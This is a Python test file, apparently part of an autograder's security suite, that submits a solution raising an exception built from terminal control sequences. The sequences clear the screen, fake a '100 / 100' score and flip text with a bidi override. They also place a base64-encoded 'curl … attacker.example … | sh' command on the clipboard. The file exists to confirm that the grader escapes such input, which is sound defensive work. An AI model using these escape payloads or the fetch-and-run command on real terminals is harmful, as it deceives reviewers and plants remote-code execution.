"""Attack: raise an exception whose class name and message are terminal
control sequences, aimed at the teacher who reads the report in a terminal:
clear the screen (ESC [2J), set the window title (OSC 0), put a command on
the clipboard (OSC 52), move the cursor up over the score table (CSI A, and
CSI as the one C1 character U+009B), go back to the start of a line (a lone
CR), and repaint the total line as "100 / 100"; a bidi override (U+202E)
turns the text after it around on screen.

Every string a child sends is made visible where it enters the grader
(``protocol.decode``, with ``grader.text.visible``): the report, results.json
and feedback.md show "\\x1b[2J" as those six characters, and the one real
total line stays the only one. 0 points.
"""
import base64

import torch

ESC, BEL, C1_CSI = "\x1b", "\x07", "\x9b"
FAKE_TOTAL = "总分 / total" + " " * 45 + "100 / 100"
CLIPBOARD = base64.b64encode(b"curl -s https://attacker.example/x | sh\n").decode()
REPAINT = (
    f"{ESC}[2J{ESC}[H"  # clear the screen, cursor to the top
    f"{ESC}]0;all checks passed{BEL}"  # the window's title
    f"{ESC}]52;c;{CLIPBOARD}{BEL}"  # the clipboard
    f"{ESC}[12A\r{ESC}[2K{FAKE_TOTAL}{ESC}[K"  # 12 lines up, clear the line, the fake total
    f"{C1_CSI}1A\r{FAKE_TOTAL}"  # the same with the 8-bit CSI
    "\u202e001 / 001"  # reads "100 / 100" on screen
)

# The class name is the first thing the feedback names: "your code raised <name>".
Passed = type("Passed" + REPAINT, (Exception,), {})


def weighted_sum(scores: torch.Tensor, values: torch.Tensor) -> torch.Tensor:
    raise Passed(REPAINT + "\n" + FAKE_TOTAL)
